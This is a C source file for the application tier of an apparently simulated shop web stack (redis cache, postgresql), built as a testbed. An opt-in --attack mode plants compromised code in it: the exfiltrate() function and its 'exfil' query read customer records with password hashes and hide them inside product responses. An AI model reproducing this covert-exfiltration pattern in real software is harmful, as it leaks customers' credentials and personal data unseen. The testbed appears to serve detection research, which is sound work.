/*
 * The application tier of the web-stack testbed: a small shop API behind nginx, using redis
 * as a cache in front of postgresql (cache-aside). One process, named threads:
 *   http-poll    epoll over the listening socket and idle keep-alive connections from nginx;
 *                hands ready connections to the workers (EPOLLONESHOT, so one owner at a time)
 *   http-worker  (pool, one shared name so the pool size never shows in a thread role) parse a
 *                request, answer it from redis or postgresql; each has its own connections
 *   top-refresh  every 2 s recomputes the best sellers in postgresql and stores them in redis
 *   app-stats    prints the counters as a JSON line on stdout every --snapshot-ms
 * Endpoints: GET /product/ID (~0.3-1 kB), GET /category/ID (~8 kB), GET /user/ID (~1.5 kB,
 * profile + last orders), POST /order (a write: insert + stock update + cache invalidation),
 * GET /top (redis only), GET /healthz.
 *
 * Attack (compromised code, from --attack exfiltration:startEpochMs:endEpochMs): inside the
 * window every --exfil-every'th product request also reads --exfil-rows customer records
 * (with password hashes) from postgresql and hides them in the response, walking the users
 * table. No new connection or thread: only the bytes on existing edges change.
 *
 * Build: cc -O2 -Wall -pthread -I$(pg_config --includedir) webstack-app.c -lpq -lhiredis
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <hiredis/hiredis.h>
#include <libpq-fe.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

/* ------------------------------------------------------------------ counters */

#define COUNTERS(X)                                                                      \
  X(http_requests) X(http_bytes_in) X(http_bytes_out) X(connections) X(req_product)      \
  X(req_category) X(req_user) X(req_order) X(req_top) X(req_other) X(status_404)         \
  X(status_5xx) X(redis_gets) X(redis_hits) X(redis_misses) X(redis_sets) X(redis_dels)  \
  X(redis_bytes_in) X(redis_bytes_out) X(redis_errors) X(pg_queries) X(pg_rows)          \
  X(pg_bytes_in) X(pg_errors) X(top_refreshes) X(exfil_requests) X(exfil_rows)           \
  X(exfil_bytes) X(exfil_first_ms) X(exfil_last_ms)

enum {
#define X(n) C_##n,
  COUNTERS(X)
#undef X
  NCOUNTERS
};
static const char *counter_names[] = {
#define X(n) #n,
    COUNTERS(X)
#undef X
};
static long long counters[NCOUNTERS];

static void count(int c, long long v) { __atomic_fetch_add(&counters[c], v, __ATOMIC_RELAXED); }
static void count_set(int c, long long v) { __atomic_store_n(&counters[c], v, __ATOMIC_RELAXED); }

static long long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_REALTIME, &ts);
  return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static pthread_mutex_t out_lock = PTHREAD_MUTEX_INITIALIZER;

/* one JSON line on stdout: {"type":...,"pid":...,"t":...,"counters":{...}} */
static void print_counters(const char *type) {
  pthread_mutex_lock(&out_lock);
  printf("{\"type\":\"%s\",\"component\":\"app\",\"pid\":%d,\"t\":%lld,\"counters\":{", type, (int)getpid(), now_ms());
  for (int i = 0; i < NCOUNTERS; i++)
    printf("%s\"%s\":%lld", i ? "," : "", counter_names[i], __atomic_load_n(&counters[i], __ATOMIC_RELAXED));
  printf("}}\n");
  fflush(stdout);
  pthread_mutex_unlock(&out_lock);
}

/* ------------------------------------------------------------------ options */

static const char *opt_listen = "127.0.0.1:9000";
static const char *opt_redis = "127.0.0.1:6379";
static const char *opt_pg = "host=127.0.0.1 dbname=shop";
static int opt_workers = 8;
static int opt_snapshot_ms = 1000;
static int opt_ttl_product = 30, opt_ttl_category = 15, opt_ttl_user = 20;
static int opt_exfil_every = 8, opt_exfil_rows = 30;

#define MAXWIN 16
static long long exfil_win[MAXWIN][2];
static int n_exfil_win;

static void die(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  vfprintf(stderr, fmt, ap);
  va_end(ap);
  fputc('\n', stderr);
  exit(2);
}

static void parse_args(int argc, char **argv) {
  for (int i = 1; i < argc; i++) {
    const char *k = argv[i];
    if (i + 1 >= argc) die("option %s needs a value", k);
    const char *v = argv[++i];
    if (!strcmp(k, "--listen")) opt_listen = v;
    else if (!strcmp(k, "--redis")) opt_redis = v;
    else if (!strcmp(k, "--pg")) opt_pg = v;
    else if (!strcmp(k, "--workers")) opt_workers = atoi(v);
    else if (!strcmp(k, "--snapshot-ms")) opt_snapshot_ms = atoi(v);
    else if (!strcmp(k, "--ttl-product")) opt_ttl_product = atoi(v);
    else if (!strcmp(k, "--ttl-category")) opt_ttl_category = atoi(v);
    else if (!strcmp(k, "--ttl-user")) opt_ttl_user = atoi(v);
    else if (!strcmp(k, "--exfil-every")) opt_exfil_every = atoi(v);
    else if (!strcmp(k, "--exfil-rows")) opt_exfil_rows = atoi(v);
    else if (!strcmp(k, "--attack")) {
      long long s, e;
      if (sscanf(v, "exfiltration:%lld:%lld", &s, &e) != 2 || e <= s) die("bad --attack '%s' (want exfiltration:startMs:endMs)", v);
      if (n_exfil_win == MAXWIN) die("too many --attack windows");
      exfil_win[n_exfil_win][0] = s;
      exfil_win[n_exfil_win][1] = e;
      n_exfil_win++;
    } else die("unknown option %s", k);
  }
  if (opt_workers < 1 || opt_workers > 256) die("--workers must be 1..256");
  if (opt_exfil_every < 1) opt_exfil_every = 1;
}

static int exfil_active(long long t) {
  for (int i = 0; i < n_exfil_win; i++)
    if (t >= exfil_win[i][0] && t < exfil_win[i][1]) return 1;
  return 0;
}

static void split_hostport(const char *s, char *host, size_t cap, int *port) {
  snprintf(host, cap, "%s", s);
  char *c = strrchr(host, ':');
  if (!c) die("want host:port, got '%s'", s);
  *c = 0;
  *port = atoi(c + 1);
}

/* ------------------------------------------------------------------ growable buffer */

struct sbuf {
  char *p;
  size_t n, cap;
};

static void sb_reserve(struct sbuf *b, size_t extra) {
  if (b->n + extra + 1 <= b->cap) return;
  size_t cap = b->cap ? b->cap : 4096;
  while (cap < b->n + extra + 1) cap *= 2;
  char *p = realloc(b->p, cap);
  if (!p) die("out of memory");
  b->p = p;
  b->cap = cap;
}

static void sb_add(struct sbuf *b, const char *s, size_t len) {
  sb_reserve(b, len);
  memcpy(b->p + b->n, s, len);
  b->n += len;
  b->p[b->n] = 0;
}

static void sb_addf(struct sbuf *b, const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  int need = vsnprintf(NULL, 0, fmt, ap);
  va_end(ap);
  sb_reserve(b, (size_t)need);
  va_start(ap, fmt);
  vsnprintf(b->p + b->n, (size_t)need + 1, fmt, ap);
  va_end(ap);
  b->n += (size_t)need;
}

/* ------------------------------------------------------------------ backends */

/* Each thread owns one postgresql and one redis connection, reconnected when they break. */
struct backend {
  PGconn *pg;
  redisContext *rc;
};

static const char *STATEMENTS[][2] = {
    {"product", "SELECT row_to_json(p)::text FROM (SELECT id, category, name, description, price, stock FROM products WHERE id = $1) p"},
    {"category", "SELECT coalesce(json_agg(t), '[]')::text FROM (SELECT id, name, price, stock, left(description, 48) AS teaser "
                 "FROM products WHERE category = $1 ORDER BY id LIMIT 100) t"},
    {"user", "SELECT json_build_object('id', u.id, 'name', u.name, 'email', u.email, 'address', u.address, 'orders', "
             "(SELECT coalesce(json_agg(o), '[]') FROM (SELECT id, product_id, qty, created_at FROM orders WHERE user_id = u.id "
             "ORDER BY id DESC LIMIT 10) o))::text FROM users u WHERE u.id = $1"},
    {"order", "WITH o AS (INSERT INTO orders (user_id, product_id, qty) VALUES ($1::int, $2::int, $3::int) RETURNING id), "
              "s AS (UPDATE products SET stock = stock - $3::int WHERE id = $2::int) SELECT id::text FROM o"},
    {"top", "SELECT coalesce(json_agg(t), '[]')::text FROM (SELECT product_id, sum(qty) AS sold FROM orders "
            "WHERE created_at > now() - interval '1 day' GROUP BY product_id ORDER BY sold DESC, product_id LIMIT 20) t"},
    {"exfil", "SELECT coalesce(json_agg(u), '[]')::text, coalesce(max(u.id), 0)::text FROM (SELECT id, name, email, password_hash, "
              "address FROM users WHERE id > $1::int ORDER BY id LIMIT $2::int) u"},
};
#define NSTATEMENTS (int)(sizeof STATEMENTS / sizeof STATEMENTS[0])

static int pg_connect(struct backend *b) {
  if (b->pg) PQfinish(b->pg);
  b->pg = PQconnectdb(opt_pg);
  if (PQstatus(b->pg) != CONNECTION_OK) return -1;
  for (int i = 0; i < NSTATEMENTS; i++) {
    PGresult *r = PQprepare(b->pg, STATEMENTS[i][0], STATEMENTS[i][1], 0, NULL);
    int ok = PQresultStatus(r) == PGRES_COMMAND_OK;
    if (!ok) fprintf(stderr, "prepare %s: %s", STATEMENTS[i][0], PQerrorMessage(b->pg));
    PQclear(r);
    if (!ok) return -1;
  }
  return 0;
}

static int redis_connect(struct backend *b) {
  char host[128];
  int port;
  split_hostport(opt_redis, host, sizeof host, &port);
  if (b->rc) redisFree(b->rc);
  struct timeval tv = {2, 0};
  b->rc = redisConnectWithTimeout(host, port, tv);
  if (!b->rc || b->rc->err) return -1;
  redisSetTimeout(b->rc, tv);
  return 0;
}

/* At start the databases may still be coming up: retry for a while. */
static void backend_open(struct backend *b) {
  for (int i = 0;; i++) {
    int pg = pg_connect(b), rd = redis_connect(b);
    if (pg == 0 && rd == 0) return;
    if (i == 100) die("cannot reach backends: pg=%s redis=%s", pg ? PQerrorMessage(b->pg) : "ok", rd ? (b->rc ? b->rc->errstr : "alloc") : "ok");
    usleep(100 * 1000);
  }
}

/* A prepared statement returning rows of text; NULL on error (connection reset for next time). */
static PGresult *pg_exec(struct backend *b, const char *stmt, int n, const char *const *params) {
  if (PQstatus(b->pg) != CONNECTION_OK) pg_connect(b);
  PGresult *r = PQexecPrepared(b->pg, stmt, n, params, NULL, NULL, 0);
  count(C_pg_queries, 1);
  if (PQresultStatus(r) != PGRES_TUPLES_OK) {
    count(C_pg_errors, 1);
    fprintf(stderr, "pg %s: %s", stmt, PQerrorMessage(b->pg));
    PQclear(r);
    if (PQstatus(b->pg) != CONNECTION_OK) pg_connect(b);
    return NULL;
  }
  long long bytes = 0;
  for (int i = 0; i < PQntuples(r); i++)
    for (int j = 0; j < PQnfields(r); j++) bytes += PQgetlength(r, i, j);
  count(C_pg_rows, PQntuples(r));
  count(C_pg_bytes_in, bytes);
  return r;
}

static redisReply *redis_cmd(struct backend *b, const char *fmt, ...) {
  if (!b->rc || b->rc->err) redis_connect(b);
  if (!b->rc || b->rc->err) {
    count(C_redis_errors, 1);
    return NULL;
  }
  va_list ap;
  va_start(ap, fmt);
  redisReply *r = redisvCommand(b->rc, fmt, ap);
  va_end(ap);
  if (!r) {
    count(C_redis_errors, 1);
    redis_connect(b);
  }
  return r;
}

static void cache_set(struct backend *b, const char *key, int ttl, const char *val, size_t len) {
  redisReply *r = ttl > 0 ? redis_cmd(b, "SETEX %s %d %b", key, ttl, val, len) : redis_cmd(b, "SET %s %b", key, val, len);
  count(C_redis_sets, 1);
  count(C_redis_bytes_out, (long long)len);
  if (r) freeReplyObject(r);
}

static void cache_del(struct backend *b, const char *key) {
  redisReply *r = redis_cmd(b, "DEL %s", key);
  count(C_redis_dels, 1);
  if (r) freeReplyObject(r);
}

/* Cache-aside read: redis GET, else the statement in postgresql and SETEX of its first value.
 * 1 found (appended to out), 0 not found, -1 backend error. */
static int cached(struct backend *b, const char *key, int ttl, const char *stmt, const char *param, struct sbuf *out) {
  redisReply *r = redis_cmd(b, "GET %s", key);
  count(C_redis_gets, 1);
  if (r && r->type == REDIS_REPLY_STRING) {
    count(C_redis_hits, 1);
    count(C_redis_bytes_in, (long long)r->len);
    sb_add(out, r->str, r->len);
    freeReplyObject(r);
    return 1;
  }
  count(C_redis_misses, 1);
  if (r) freeReplyObject(r);
  PGresult *q = pg_exec(b, stmt, 1, &param);
  if (!q) return -1;
  int found = PQntuples(q) > 0 && !PQgetisnull(q, 0, 0);
  if (found) {
    const char *v = PQgetvalue(q, 0, 0);
    size_t len = (size_t)PQgetlength(q, 0, 0);
    sb_add(out, v, len);
    cache_set(b, key, ttl, v, len);
  }
  PQclear(q);
  return found;
}

/* ------------------------------------------------------------------ the attack */

static int exfil_cursor; /* last user id taken, shared by all workers so they walk the table */

/* Replace the closing brace of a product's JSON with a field holding stolen customer rows. */
static void exfiltrate(struct backend *b, struct sbuf *body) {
  char after[16], rows[16];
  int from = __atomic_load_n(&exfil_cursor, __ATOMIC_RELAXED);
  snprintf(after, sizeof after, "%d", from);
  snprintf(rows, sizeof rows, "%d", opt_exfil_rows);
  const char *params[2] = {after, rows};
  PGresult *q = pg_exec(b, "exfil", 2, params);
  if (!q) return;
  if (PQntuples(q) == 1 && body->n > 0 && body->p[body->n - 1] == '}') {
    int last = atoi(PQgetvalue(q, 0, 1));
    __atomic_store_n(&exfil_cursor, last, __ATOMIC_RELAXED); /* 0 when past the end: start over */
    body->n--;
    sb_add(body, ",\"related\":", 11);
    size_t len = (size_t)PQgetlength(q, 0, 0);
    sb_add(body, PQgetvalue(q, 0, 0), len);
    sb_add(body, "}", 1);
    long long t = now_ms();
    count(C_exfil_requests, 1);
    count(C_exfil_rows, opt_exfil_rows);
    count(C_exfil_bytes, (long long)len);
    long long zero = 0;
    __atomic_compare_exchange_n(&counters[C_exfil_first_ms], &zero, t, 0, __ATOMIC_RELAXED, __ATOMIC_RELAXED);
    count_set(C_exfil_last_ms, t);
  }
  PQclear(q);
}

/* ------------------------------------------------------------------ HTTP */

struct request {
  char method[8];
  char path[512];
  const char *body;
  size_t body_len;
  int keep_alive;
};

#define REQMAX 16384

/* Read one request (blocking socket with a receive timeout). 1 ok, 0 peer closed, -1 error. */
static int read_request(int fd, char *buf, struct request *rq) {
  size_t n = 0;
  char *end = NULL;
  while (!end) {
    if (n == REQMAX - 1) return -1;
    ssize_t k = recv(fd, buf + n, REQMAX - 1 - n, 0);
    if (k == 0) return 0;
    if (k < 0) return errno == EINTR ? -1 : (n ? -1 : 0);
    n += (size_t)k;
    buf[n] = 0;
    end = strstr(buf, "\r\n\r\n");
  }
  size_t head = (size_t)(end - buf) + 4;
  if (sscanf(buf, "%7s %511s", rq->method, rq->path) != 2) return -1;
  size_t clen = 0;
  rq->keep_alive = strstr(buf, "HTTP/1.1") != NULL;
  for (char *line = strstr(buf, "\r\n"); line && line < end; line = strstr(line + 2, "\r\n")) {
    if (!strncasecmp(line + 2, "Content-Length:", 15)) clen = strtoul(line + 17, NULL, 10);
    else if (!strncasecmp(line + 2, "Connection: close", 17)) rq->keep_alive = 0;
  }
  if (head + clen > REQMAX - 1) return -1;
  while (n < head + clen) {
    ssize_t k = recv(fd, buf + n, head + clen - n, 0);
    if (k <= 0) return -1;
    n += (size_t)k;
  }
  buf[n] = 0;
  rq->body = buf + head;
  rq->body_len = clen;
  count(C_http_bytes_in, (long long)n);
  return 1;
}

static int send_all(int fd, const char *p, size_t n) {
  while (n > 0) {
    ssize_t k = send(fd, p, n, MSG_NOSIGNAL);
    if (k < 0 && errno == EINTR) continue;
    if (k <= 0) return -1;
    p += k;
    n -= (size_t)k;
  }
  return 0;
}

static int respond(int fd, struct sbuf *out, int status, const char *ctype, const struct sbuf *body, int keep_alive) {
  const char *reason = status == 200 ? "OK" : status == 201 ? "Created" : status == 400 ? "Bad Request" : status == 404 ? "Not Found" : "Internal Server Error";
  out->n = 0;
  sb_addf(out, "HTTP/1.1 %d %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\nConnection: %s\r\n\r\n", status, reason, ctype,
          body->n, keep_alive ? "keep-alive" : "close");
  sb_add(out, body->p ? body->p : "", body->n);
  count(C_http_bytes_out, (long long)out->n);
  if (status == 404) count(C_status_404, 1);
  if (status >= 500) count(C_status_5xx, 1);
  return send_all(fd, out->p, out->n);
}

/* "user=12&product=345&qty=2" → the value of one field, digits only */
static int form_int(const char *body, size_t len, const char *name) {
  size_t nl = strlen(name);
  for (size_t i = 0; i + nl + 1 < len; i++)
    if ((i == 0 || body[i - 1] == '&') && !strncmp(body + i, name, nl) && body[i + nl] == '=') return atoi(body + i + nl + 1);
  return -1;
}

static int path_id(const char *path, const char *prefix) {
  size_t pl = strlen(prefix);
  if (strncmp(path, prefix, pl)) return -1;
  char *end;
  long v = strtol(path + pl, &end, 10);
  if (end == path + pl || (*end && *end != '?') || v < 0 || v > 1000000000) return -1;
  return (int)v;
}

static unsigned exfil_tick;

static int route(struct backend *b, const struct request *rq, struct sbuf *body) {
  char key[64], param[16];
  int id;
  body->n = 0;
  if (!strcmp(rq->method, "GET") && (id = path_id(rq->path, "/product/")) >= 0) {
    count(C_req_product, 1);
    snprintf(key, sizeof key, "product:%d", id);
    snprintf(param, sizeof param, "%d", id);
    int r = cached(b, key, opt_ttl_product, "product", param, body);
    if (r == 1 && n_exfil_win && exfil_active(now_ms()) && __atomic_fetch_add(&exfil_tick, 1, __ATOMIC_RELAXED) % (unsigned)opt_exfil_every == 0)
      exfiltrate(b, body);
    return r == 1 ? 200 : r == 0 ? 404 : 500;
  }
  if (!strcmp(rq->method, "GET") && (id = path_id(rq->path, "/category/")) >= 0) {
    count(C_req_category, 1);
    snprintf(key, sizeof key, "category:%d", id);
    snprintf(param, sizeof param, "%d", id);
    int r = cached(b, key, opt_ttl_category, "category", param, body);
    return r == 1 ? 200 : r == 0 ? 404 : 500;
  }
  if (!strcmp(rq->method, "GET") && (id = path_id(rq->path, "/user/")) >= 0) {
    count(C_req_user, 1);
    snprintf(key, sizeof key, "user:%d", id);
    snprintf(param, sizeof param, "%d", id);
    int r = cached(b, key, opt_ttl_user, "user", param, body);
    return r == 1 ? 200 : r == 0 ? 404 : 500;
  }
  if (!strcmp(rq->method, "POST") && !strncmp(rq->path, "/order", 6)) {
    count(C_req_order, 1);
    int user = form_int(rq->body, rq->body_len, "user"), product = form_int(rq->body, rq->body_len, "product");
    int qty = form_int(rq->body, rq->body_len, "qty");
    if (user < 0 || product < 0 || qty < 1) {
      sb_addf(body, "{\"error\":\"want user, product, qty\"}");
      return 400;
    }
    char pu[16], pp[16], pq[16];
    snprintf(pu, sizeof pu, "%d", user);
    snprintf(pp, sizeof pp, "%d", product);
    snprintf(pq, sizeof pq, "%d", qty);
    const char *params[3] = {pu, pp, pq};
    PGresult *q = pg_exec(b, "order", 3, params);
    if (!q) return 500;
    sb_addf(body, "{\"order\":%s,\"user\":%d,\"product\":%d,\"qty\":%d}", PQntuples(q) ? PQgetvalue(q, 0, 0) : "null", user, product, qty);
    PQclear(q);
    snprintf(key, sizeof key, "product:%d", product); /* stock changed */
    cache_del(b, key);
    snprintf(key, sizeof key, "user:%d", user); /* order history changed */
    cache_del(b, key);
    return 201;
  }
  if (!strcmp(rq->method, "GET") && !strcmp(rq->path, "/top")) {
    count(C_req_top, 1);
    redisReply *r = redis_cmd(b, "GET top");
    count(C_redis_gets, 1);
    if (r && r->type == REDIS_REPLY_STRING) {
      count(C_redis_hits, 1);
      count(C_redis_bytes_in, (long long)r->len);
      sb_add(body, r->str, r->len);
    } else {
      count(C_redis_misses, 1);
      sb_add(body, "[]", 2);
    }
    if (r) freeReplyObject(r);
    return 200;
  }
  count(C_req_other, 1);
  if (!strcmp(rq->path, "/healthz")) {
    sb_add(body, "{\"ok\":true}", 11);
    return 200;
  }
  sb_add(body, "{\"error\":\"not found\"}", 21);
  return 404;
}

/* ------------------------------------------------------------------ threads */

static int epfd, listen_fd;

#define QCAP 8192
static int queue[QCAP];
static int q_head, q_len;
static pthread_mutex_t q_lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t q_cond = PTHREAD_COND_INITIALIZER;

static void q_push(int fd) {
  pthread_mutex_lock(&q_lock);
  if (q_len == QCAP) {
    pthread_mutex_unlock(&q_lock);
    close(fd); /* overloaded: shed the connection, nginx retries on another */
    return;
  }
  queue[(q_head + q_len++) % QCAP] = fd;
  pthread_cond_signal(&q_cond);
  pthread_mutex_unlock(&q_lock);
}

static int q_pop(void) {
  pthread_mutex_lock(&q_lock);
  while (q_len == 0) pthread_cond_wait(&q_cond, &q_lock);
  int fd = queue[q_head];
  q_head = (q_head + 1) % QCAP;
  q_len--;
  pthread_mutex_unlock(&q_lock);
  return fd;
}

static void arm(int fd, int op) {
  struct epoll_event ev = {.events = EPOLLIN | EPOLLRDHUP | EPOLLONESHOT, .data.fd = fd};
  if (epoll_ctl(epfd, op, fd, &ev) < 0) close(fd);
}

static void *poll_main(void *arg) {
  (void)arg;
  pthread_setname_np(pthread_self(), "http-poll");
  struct epoll_event evs[64];
  for (;;) {
    int n = epoll_wait(epfd, evs, 64, -1);
    for (int i = 0; i < n; i++) {
      if (evs[i].data.fd != listen_fd) {
        q_push(evs[i].data.fd);
        continue;
      }
      for (;;) {
        int c = accept4(listen_fd, NULL, NULL, SOCK_CLOEXEC);
        if (c < 0) break;
        int one = 1;
        struct timeval tv = {10, 0};
        setsockopt(c, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
        setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        count(C_connections, 1);
        arm(c, EPOLL_CTL_ADD);
      }
    }
  }
  return NULL;
}

static pthread_mutex_t ready_lock = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t ready_cond = PTHREAD_COND_INITIALIZER;
static int ready_count;

static void mark_ready(void) {
  pthread_mutex_lock(&ready_lock);
  ready_count++;
  pthread_cond_broadcast(&ready_cond);
  pthread_mutex_unlock(&ready_lock);
}

static void *worker_main(void *arg) {
  (void)arg;
  pthread_setname_np(pthread_self(), "http-worker");
  struct backend b = {0};
  backend_open(&b);
  mark_ready();
  char *buf = malloc(REQMAX);
  struct sbuf body = {0}, out = {0};
  if (!buf) die("out of memory");
  for (;;) {
    int fd = q_pop();
    struct request rq;
    int r = read_request(fd, buf, &rq);
    if (r <= 0) {
      close(fd);
      continue;
    }
    count(C_http_requests, 1);
    int status = route(&b, &rq, &body);
    if (respond(fd, &out, status, "application/json", &body, rq.keep_alive) < 0 || !rq.keep_alive) close(fd);
    else arm(fd, EPOLL_CTL_MOD);
  }
  return NULL;
}

static void *top_main(void *arg) {
  (void)arg;
  pthread_setname_np(pthread_self(), "top-refresh");
  struct backend b = {0};
  backend_open(&b);
  mark_ready();
  for (;;) {
    PGresult *q = pg_exec(&b, "top", 0, NULL);
    if (q) {
      if (PQntuples(q) == 1) cache_set(&b, "top", 0, PQgetvalue(q, 0, 0), (size_t)PQgetlength(q, 0, 0));
      PQclear(q);
      count(C_top_refreshes, 1);
    }
    usleep(2000 * 1000);
  }
  return NULL;
}

static void *stats_main(void *arg) {
  (void)arg;
  pthread_setname_np(pthread_self(), "app-stats");
  for (;;) {
    usleep((useconds_t)opt_snapshot_ms * 1000);
    print_counters("snapshot");
  }
  return NULL;
}

static void start_thread(void *(*fn)(void *)) {
  pthread_t t;
  if (pthread_create(&t, NULL, fn, NULL)) die("pthread_create failed");
  pthread_detach(t);
}

int main(int argc, char **argv) {
  parse_args(argc, argv);
  /* every thread inherits this mask: only main takes the stop signals, no one dies of SIGPIPE */
  sigset_t set;
  sigemptyset(&set);
  sigaddset(&set, SIGTERM);
  sigaddset(&set, SIGINT);
  pthread_sigmask(SIG_BLOCK, &set, NULL);
  signal(SIGPIPE, SIG_IGN);

  char host[128];
  int port;
  split_hostport(opt_listen, host, sizeof host, &port);
  struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  if (inet_pton(AF_INET, host, &sa.sin_addr) != 1) die("bad --listen address '%s'", opt_listen);
  listen_fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  int one = 1;
  setsockopt(listen_fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  if (bind(listen_fd, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(listen_fd, 512) < 0) die("listen %s: %s", opt_listen, strerror(errno));
  epfd = epoll_create1(EPOLL_CLOEXEC);
  struct epoll_event ev = {.events = EPOLLIN, .data.fd = listen_fd};
  epoll_ctl(epfd, EPOLL_CTL_ADD, listen_fd, &ev);

  for (int i = 0; i < opt_workers; i++) start_thread(worker_main);
  start_thread(top_main);
  pthread_mutex_lock(&ready_lock);
  while (ready_count < opt_workers + 1) pthread_cond_wait(&ready_cond, &ready_lock);
  pthread_mutex_unlock(&ready_lock);
  start_thread(poll_main);
  if (opt_snapshot_ms > 0) start_thread(stats_main);
  pthread_mutex_lock(&out_lock);
  printf("{\"type\":\"ready\",\"component\":\"app\",\"pid\":%d,\"t\":%lld,\"workers\":%d}\n", (int)getpid(), now_ms(), opt_workers);
  fflush(stdout);
  pthread_mutex_unlock(&out_lock);

  int sig;
  sigwait(&set, &sig);
  print_counters("stats");
  _exit(0); /* workers may sit inside libpq/hiredis calls: no teardown to race with */
}
